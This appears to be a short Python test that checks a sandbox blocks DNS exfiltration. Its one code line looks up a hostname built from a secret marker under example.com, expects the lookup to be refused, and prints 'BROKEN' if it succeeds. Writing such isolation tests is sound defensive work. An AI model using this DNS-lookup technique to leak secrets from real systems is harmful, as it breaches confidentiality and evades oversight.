# a name looked up that carries the secret
# ends: refused
# ruff: noqa
import socket

print("BROKEN", socket.getaddrinfo(f"{MARK}.example.com", 53))
